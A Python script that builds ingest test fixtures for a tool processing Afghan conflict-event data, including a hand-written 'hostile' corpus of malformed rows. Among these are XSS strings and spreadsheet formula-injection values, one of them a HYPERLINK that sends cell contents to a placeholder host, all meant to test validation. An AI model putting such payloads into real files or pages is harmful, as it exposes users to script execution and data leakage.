"""Rebuild the ingest fixtures from the real data (run from the repository root).

    PYTHONPATH=. .venv/bin/python tests/data/ingest/make_fixtures.py

Sources: ``data/events/reported_events.csv`` (the bundled, geocoded events) and
``data/events/source/ucdp_ged_afg_2001_2018_subset.csv``. Every value comes
from those rows, except what the other formats need and our data lacks (ACLED
and UCDP bookkeeping columns), which is filled as the formats document it; see
``tests/data/README.md``. The hostile corpus is written by hand below.
"""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path

import pandas as pd

from geo import settings
from geo.join import assign_points
from geo.schema import EVENT_COLUMNS

HERE = Path(__file__).resolve().parent
BUNDLED = settings.DEFAULT_EVENTS_FILE
UCDP = settings.SOURCE_EVENTS_DIR / "ucdp_ged_afg_2001_2018_subset.csv"

#: Real events used in the ACLED, GeoJSON and project fixtures.
ACLED_IDS = [
    "DEV-005",
    "DEV-009",
    "DEV-019",
    "DEV-024",
    "DEV-083",
    "DEV-085",
    "DEV-090",
    "DEV-096",
    "DEV-097",
    "DEV-106",
]
PROJECT_IDS = ["DEV-004", "DEV-008", "DEV-085", "DEV-097", "DEV-106"]

ACLED_ACTORS = {
    "NRF": "NRF: National Resistance Front",
    "AFF": "AFF: Afghanistan Freedom Front",
    "ISKP": "Islamic State Khorasan Province",
}


def bundled() -> pd.DataFrame:
    return pd.read_csv(BUNDLED, dtype=str, keep_default_na=False)


def acled(ev: pd.DataFrame) -> pd.DataFrame:
    rows = ev.set_index("event_id").loc[ACLED_IDS].reset_index()
    out = []
    for i, r in enumerate(rows.itertuples(index=False)):
        date = dt.date.fromisoformat(r.event_date)
        actor = ACLED_ACTORS.get(r.group, r.actor1)
        taliban_first = r.event_id == "DEV-005"  # a Taliban offensive on the NRF: ACLED puts the Taliban first
        out.append(
            {
                "event_id_cnty": f"AFG{70001 + i}",
                "event_date": date.strftime("%d %B %Y"),
                "year": str(date.year),
                "time_precision": {"day": "1", "week": "2", "month": "3"}[r.date_precision],
                "disorder_type": "Political violence",
                "event_type": r.event_type,
                "sub_event_type": r.sub_event_type,
                "actor1": "Taliban" if taliban_first else actor,
                "assoc_actor_1": "",
                "inter1": "1" if taliban_first else "2",
                "actor2": actor if taliban_first else "Taliban",
                "assoc_actor_2": "",
                "inter2": "2" if taliban_first else "1",
                "interaction": "12",
                "civilian_targeting": "",
                "iso": "4",
                "region": "Caucasus and Central Asia",
                "country": "Afghanistan",
                "admin1": {"Panjsher": "Panjshir", "Hirat": "Herat"}.get(r.admin1, r.admin1),
                "admin2": r.admin2,
                "admin3": "",
                "location": r.location_en or r.location,
                "latitude": r.latitude,
                "longitude": r.longitude,
                "geo_precision": str(int(float(r.geo_precision))) if r.geo_precision else "2",
                "source": r.source,
                "source_scale": "National",
                "notes": f"Target: {r.actor2}. Built from {r.event_id} of the bundled events.",
                "fatalities": r.fatalities or "0",
                "tags": "",
                "timestamp": str(int(dt.datetime(date.year, date.month, date.day, tzinfo=dt.UTC).timestamp())),
            }
        )
    return pd.DataFrame(out)


def ucdp() -> pd.DataFrame:
    src = pd.read_csv(UCDP, dtype=str, keep_default_na=False).head(10)
    pts = assign_points(src["longitude"].astype(float), src["latitude"].astype(float))
    from geo.boundaries import province_names

    names = province_names()
    # where_prec as the UCDP GED codebook defines it: 3 = the event is known to the district (adm_2 given);
    # two rows changed on purpose to exercise the mapping: 4 (province only) and 6 (country only).
    where_prec = ["3"] * len(src)
    where_prec[8], where_prec[9] = "4", "6"
    out = pd.DataFrame(
        {
            "id": src["ucdp_ged_id"],
            "relid": "AFG-" + src["year"] + "-1-" + src["ucdp_ged_id"],
            "year": src["year"],
            "active_year": "1",
            "code_status": "Clear",
            "type_of_violence": "1",
            "conflict_name": "Afghanistan: Government",
            "dyad_name": src["side_a"] + " - " + src["side_b"],
            "side_a": src["side_a"],
            "side_b": src["side_b"],
            "where_prec": where_prec,
            "where_coordinates": src["adm_2"].str.replace(r"\s+district$", "", regex=True),
            "adm_1": [names.get(p, "") + " province" if p else "" for p in pts["adm1_pcode"]],
            "adm_2": src["adm_2"],
            "latitude": src["latitude"],
            "longitude": src["longitude"],
            "country": "Afghanistan",
            "date_prec": ["1" if a == b else "2" for a, b in zip(src["date_start"], src["date_end"], strict=True)],
            "date_start": src["date_start"],
            "date_end": src["date_end"],
            "deaths_a": src["deaths_a"],
            "deaths_b": src["deaths_b"],
            "deaths_civilians": "0",
            "deaths_unknown": "0",
            "best": (src["deaths_a"].astype(int) + src["deaths_b"].astype(int)).astype(str),
            "source_article": src["source_article"],
        }
    )
    out.loc[8, "adm_2"] = ""
    out.loc[8, "where_coordinates"] = out.loc[8, "adm_1"]
    out.loc[9, ["adm_1", "adm_2", "where_coordinates"]] = ["", "", "Afghanistan"]
    return out


def geojson(ev: pd.DataFrame) -> dict:
    rows = ev.set_index("event_id").loc[ACLED_IDS].reset_index()
    feats = []
    for r in rows.to_dict("records"):
        props = {k: (v if v != "" else None) for k, v in r.items()}
        for k in ("latitude", "longitude"):
            props.pop(k)
        for k in ("fatalities", "geo_precision"):
            props[k] = int(float(props[k])) if props[k] else None
        geom = {"type": "Point", "coordinates": [float(r["longitude"]), float(r["latitude"])]}
        feats.append({"type": "Feature", "geometry": geom, "properties": props})
    return {"type": "FeatureCollection", "features": feats}


#: Free-text reports written in the style of the groups' statements, each from one real row:
#: its place text, group, fatalities and date (Solar Hijri in the Dari ones, worked out by hand).
REPORTS = [
    # DEV-106 (the example, verbatim)
    "National Resistance Front (#NRF) Militants Kill One #Taliban (IEA) Fighter in an Unspecified Attack on IEA "
    "Forces, Ganj-e-Shalbafan Area, PD-14, #Herat City, #Afghanistan — December 10, 2025",
    # DEV-097: 2025-12-01 = 10 Qaws 1404
    "جبهه مقاومت ملی: در حمله بر نیروهای طالبان در ولسوالی نهرین بغلان سه طالب کشته شدند.\n۱۰ قوس ۱۴۰۴",
    # DEV-085: 2025-02-15 = 27 Dalw 1403
    "جبهه آزادی افغانستان: حمله بر مرکز فرماندهی جلب و جذب گروه طالبان در حوزه اول امنیتی شهر تالقان مرکز ولایت تخار؛ "
    "چهار طالب کشته شدند. ۲۷ دلو ۱۴۰۳",
    # DEV-094: 2025-10-16 = 24 Mehr 1404 (Iranian month name, as Independent Persian writes it)
    "جبهه آزادی افغانستان روز ۲۴ مهر ۱۴۰۴ خودروی حامل نیروهای طالبان را در کوته سنگی، از مربوطات حوزه پنجم امنیتی "
    "شهر کابل هدف قرار داد و دو نیروی طالبان کشته شدند.",
    # DEV-083
    "ISKP claims suicide attack on Taliban members collecting salaries near a Kabul Bank branch in Kunduz city, "
    "killing five — February 11, 2025",
    # Seen but not recorded in the bundled data: no date (README, "AFF checkpoint at the Khwaja Abdullah Ansari junction")
    "Afghanistan Freedom Front fighters attacked a Taliban checkpoint at the Khwaja Abdullah Ansari junction in Herat city, "
    "killing three.",
]


def project(ev: pd.DataFrame) -> pd.DataFrame:
    return ev.set_index("event_id").loc[PROJECT_IDS].reset_index()[list(EVENT_COLUMNS)]


def hostile(ev: pd.DataFrame) -> None:
    base = ev.set_index("event_id").loc[["DEV-097", "DEV-096", "DEV-106", "DEV-085"]].reset_index()[list(EVENT_COLUMNS)]
    r97, r96, r106, r85 = (base.iloc[i].to_dict() for i in range(4))
    rows = []

    def add(template: dict, **changes) -> None:
        row = dict(template)
        row.update(changes)
        rows.append(row)

    add(r97, event_id="H-01")  # clean
    add(r97, event_id="H-02", event_date="2025-13-45")  # impossible date
    add(r97, event_id="H-03", event_date="yesterday")  # not a date
    add(r97, event_id="H-04", event_date="2099-01-01")  # future
    add(r97, event_id="H-05", event_date="")  # missing
    add(
        r96, event_id="H-06", latitude=r96["longitude"], longitude=r96["latitude"], adm1_pcode="", adm2_pcode=""
    )  # swapped
    add(
        r96, event_id="H-07", latitude="thirty-seven", longitude="70.9", adm1_pcode="", adm2_pcode=""
    )  # non-numeric, place text
    add(
        r96,
        event_id="H-08",
        latitude="N/A",
        longitude="east",
        location="",
        admin1="",
        admin2="",
        adm1_pcode="",
        adm2_pcode="",
    )
    add(r97, event_id="H-09", fatalities="-3")
    add(r97, event_id="H-10", fatalities="2.5")
    add(r97, event_id="H-11", fatalities="many")
    add(r97, event_id="H-01", event_date="2025-11-30")  # duplicate id
    add(r97, event_id="H-12", event_date="2025-12-02")  # likely duplicate of H-01 (same group, district, 1 day)
    add(
        r106,
        event_id="H-13",
        notes="<script>alert('x')</script>",
        location="<img src=x onerror=alert(1)> Herat City",
        adm1_pcode="",
        adm2_pcode="",
        latitude="",
        longitude="",
    )
    add(
        r106,
        event_id="H-14",
        actor2='=HYPERLINK("http://example.invalid/?q="&A1,"click")',
        notes="@SUM(1+1)*cmd|' /C calc'!A0",
        source="+cmd",
        event_type="-2+3",
    )
    add(r106, event_id="H-15", latitude="35.69", longitude="51.39", adm1_pcode="", adm2_pcode="")  # Tehran
    add(r85, event_id="H-16", latitude=r96["latitude"], longitude=r96["longitude"])  # Badakhshan point, Takhar stated
    add(r97, event_id="H-17", claim_status="rumoured")
    pd.DataFrame(rows).to_csv(HERE / "hostile" / "bad_rows.csv", index=False)

    (HERE / "hostile" / "empty.csv").write_bytes(b"")
    (HERE / "hostile" / "blank.csv").write_bytes(b"  \n\n \n")
    (HERE / "hostile" / "binary.csv").write_bytes(bytes.fromhex("89504e470d0a1a0a0000000d49484452") + bytes(range(256)))
    (HERE / "hostile" / "utf16.csv").write_bytes(project(ev).head(2).to_csv(index=False).encode("utf-16"))
    (HERE / "hostile" / "unknown_columns.csv").write_text("name,colour\nKhinj,green\n", encoding="utf-8")
    (HERE / "hostile" / "not_json.geojson").write_text('{"type": "FeatureCollection", "features": [', encoding="utf-8")
    (HERE / "hostile" / "polygon.geojson").write_text(
        json.dumps({"type": "Polygon", "coordinates": [[[69, 35], [70, 35], [70, 36], [69, 35]]]}), encoding="utf-8"
    )


def main() -> None:
    ev = bundled()
    acled(ev).to_csv(HERE / "acled_sample.csv", index=False)
    ucdp().to_csv(HERE / "ucdp_ged_sample.csv", index=False)
    (HERE / "events.geojson").write_text(json.dumps(geojson(ev), ensure_ascii=False, indent=1), encoding="utf-8")
    proj = project(ev)
    (HERE / "project_utf8.csv").write_bytes(proj.to_csv(index=False).encode("utf-8"))
    (HERE / "project_utf8_bom.csv").write_bytes(proj.to_csv(index=False).encode("utf-8-sig"))
    # Windows-1256 Persian files write the Arabic yeh (U+064A), which the code page has, for the Farsi yeh.
    cp = proj.replace({"\u06cc": "\u064a"}, regex=True)
    (HERE / "project_cp1256.csv").write_bytes(cp.to_csv(index=False, sep=";").encode("cp1256"))
    (HERE / "reports.txt").write_text("\n\n".join(REPORTS) + "\n", encoding="utf-8")
    hostile(ev)


if __name__ == "__main__":
    main()
